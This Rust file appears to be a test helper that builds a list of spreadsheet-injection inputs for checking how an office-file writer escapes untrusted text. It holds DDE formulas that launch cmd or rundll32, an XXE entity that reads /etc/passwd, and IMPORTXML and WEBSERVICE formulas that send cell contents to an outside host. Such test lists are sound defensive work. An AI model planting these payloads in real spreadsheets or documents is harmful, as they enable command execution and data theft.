//! What people could enter to do harm in a spreadsheet. The tests of the office enter it everywhere.

/// Two hundred texts that a careless writer would turn into formulas, markup or broken files.
pub(crate) fn payloads() -> Vec<String> {
    let starts = ["=", "+", "-", "@", "\t=", "\r=", " =", "'=", "＝", "\"=\"&"];
    let commands = [
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"http://example.org\";\"hier\")",
        "WEBSERVICE(\"http://example.org\")",
        "SUM(A1:A9)",
        "IMPORTXML(CONCAT(\"http://example.org\",A1),\"//a\")",
        "DDE(\"cmd\";\"/C calc\";\"a\")",
        "2+5+cmd|'/C notepad'!A0",
        "A1",
        "_xlfn.LAMBDA(x,x)(1)",
        "INDIRECT(\"A1\")",
        "rundll32|'URL.dll,OpenURL calc.exe'!A",
    ];
    let markup = [
        "<f>1+1</f>",
        "</t></si><si><t>x",
        "</v></c></row></sheetData>",
        "<![CDATA[x]]>",
        "]]>",
        "<!-- x -->",
        "<?xml version=\"1.0\"?>",
        "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>",
        "&b;",
        "&amp;lt;",
        "&#x3d;1+1",
        "_x000D_",
        "_x003D_1+1",
        "\u{1}\u{2}\u{b}\u{1f}",
        "\u{fffe}\u{ffff}",
        "\u{200b}=1+1",
        "\u{202e}=1+1",
        "{=1+1}",
        "[Book1.xls]Sheet1!A1",
        "'Alle'!A1",
    ];
    let made =
        starts.iter().flat_map(|start| commands.iter().map(move |command| format!("{start}{command}")));
    let marked = markup.iter().flat_map(|text| {
        [(*text).to_owned(), format!("={text}"), format!("a{text}z"), format!("{text}\n{text}")]
    });
    made.chain(marked).collect()
}
